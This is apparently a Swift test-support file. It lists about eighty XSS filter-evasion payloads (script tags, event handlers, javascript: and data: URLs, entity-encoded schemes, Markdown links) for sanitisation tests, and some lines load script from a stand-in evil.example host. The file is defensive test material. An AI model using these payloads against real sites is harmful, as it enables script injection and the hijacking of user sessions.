import TimelineContent
import TimelineModel

/// XSS filter-evasion payloads in the style of the OWASP XSS Filter Evasion Cheat Sheet, written
/// for this project: raw HTML, event handlers, script-bearing URL schemes (in odd case, entity
/// encoded, split by tabs and newlines), quote and tag breaking, and the Markdown forms of links
/// and images. `HostileContentTests` puts each one in every field a content author controls.
package enum HostilePayloads {
    package static let all: [String] = [
        // Script tags in odd case, with attributes, split and nested.
        "<script>alert(1)</script>",
        "<SCRIPT>alert(1)</SCRIPT>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script src=https://evil.example/x.js></script>",
        #"<script type="text/javascript" defer>alert(1)</script>"#,
        "<script/xss src=//evil.example/x.js></script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1);//<</script>",
        // Images and other elements with event handlers.
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=x OnErRoR=alert(1)>",
        "<img src=`x` onerror=`alert(1)`>",
        #"<img """><script>alert(1)</script>">"#,
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)//",
        "<svg><script>alert(1)</script></svg>",
        "<body onload=alert(1)>",
        "<input onfocus=alert(1) autofocus>",
        "<details open ontoggle=alert(1)>",
        "<x onclick=alert(1)>click me",
        // Frames, plug-ins, base, forms, refresh.
        #"<iframe src="javascript:alert(1)"></iframe>"#,
        #"<iframe srcdoc="<script>alert(1)</script>"></iframe>"#,
        #"<object data="javascript:alert(1)"></object>"#,
        #"<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">"#,
        #"<base href="javascript:alert(1)//">"#,
        #"<form action="javascript:alert(1)"><button>go</button></form>"#,
        #"<button formaction="javascript:alert(1)">go</button>"#,
        "<video poster=javascript:alert(1)>",
        #"<meta http-equiv="refresh" content="0;url=javascript:alert(1)">"#,
        #"<link rel=stylesheet href="javascript:alert(1)">"#,
        #"<table background="javascript:alert(1)"><tr><td>x</td></tr></table>"#,
        // <math>, <style> and parser-confusion tricks.
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<style>@import 'javascript:alert(1)';</style>",
        #"<div style="background:url(javascript:alert(1))">x</div>"#,
        #"<noscript><p title="</noscript><img src=x onerror=alert(1)>">"#,
        "<!--<script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        // Links with script-bearing schemes.
        #"<a href="javascript:alert(1)">x</a>"#,
        #"<a href="JaVaScRiPt:alert(1)">x</a>"#,
        #"<a href="&#106;avascript:alert(1)">x</a>"#,
        #"<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>"#,
        "<a href=\"jav\tascript:alert(1)\">x</a>",
        "<a href=\"jav\nascript:alert(1)\">x</a>",
        #"<a href=" javascript:alert(1)">x</a>"#,
        #"<a href="javascript&colon;alert(1)">x</a>"#,
        #"<a href="vbscript:msgbox(1)">x</a>"#,
        #"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>"#,
        "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
        // Quote, backtick and context breaking.
        #""><script>alert(1)</script>"#,
        "'><script>alert(1)</script>",
        "'-alert(1)-'",
        #"";alert(1);//"#,
        "`-alert(1)-`",
        #"\"-alert(1)}//"#,
        "{{site.title}}{{{page.title}}}{{> partials/avatar}}",
        // Markdown links, images, references and autolinks.
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](jav&#x09;ascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](<javascript:alert(1)>)",
        #"[x]( javascript:alert(1) "title")"#,
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "[x][evil]\n\n[evil]: javascript:alert(1)",
        "![x][evil]\n\n[evil]: data:text/html,<script>alert(1)</script>",
        "<javascript:alert(1)>",
        "<vbscript:msgbox(1)>",
        "<data:text/html,<script>alert(1)</script>>",
        #"[x](https://example.org/ "\" onmouseover=alert(1) x=\"")"#,
        #"[x](https://example.org/"onmouseover="alert(1))"#,
        // Entities that spell markup.
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        // Web addresses that look harmless at the start.
        #"https://example.org/"><script>alert(1)</script>"#,
        "https://example.org/#javascript:alert(1)",
    ]
}

/// Text put into content files exactly: quoted for JSON and YAML, and the positions and forms
/// the tests compare with.
package enum HostileText {
    /// A double-quoted string that JSON and YAML both read back as `text`: the search index's JSON
    /// quoting (quote, backslash and control characters escaped, everything else as is).
    package static func quoted(_ text: String) -> String {
        var bytes: [UInt8] = []
        JSONText.appendQuoted(text, to: &bytes)
        return String(decoding: bytes, as: UTF8.self)
    }

    /// The column of what follows `prefix` on its line (columns count Unicode scalars).
    package static func column(after prefix: String) -> Int {
        prefix.unicodeScalars.count + 1
    }

    /// Whitespace runs folded to one space, as `HTMLDocument.text` gives an element's text.
    package static func folded(_ text: String) -> String {
        text.split(whereSeparator: \.isWhitespace).joined(separator: " ")
    }

    /// Starts like an http(s) address, so a user's url field may accept it.
    package static func looksLikeWebAddress(_ text: String) -> Bool {
        let lowered = text.lowercased()
        return lowered.hasPrefix("http://") || lowered.hasPrefix("https://")
    }
}
